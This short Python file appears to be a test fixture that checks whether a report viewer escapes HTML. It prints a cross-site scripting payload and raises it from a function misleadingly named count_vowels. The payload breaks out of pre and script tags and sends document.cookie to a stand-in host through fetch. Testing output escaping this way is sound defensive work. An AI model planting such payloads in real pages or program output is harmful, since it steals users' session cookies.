"""Prints and raises HTML that would run in the reader's browser if the report did not escape it."""

evil = "</pre></script><script>fetch('//x/'+document.cookie)</script><img src=x onerror=alert(1)>"
print(evil)


def count_vowels(text):
    raise type(evil, (Exception,), {})(evil)
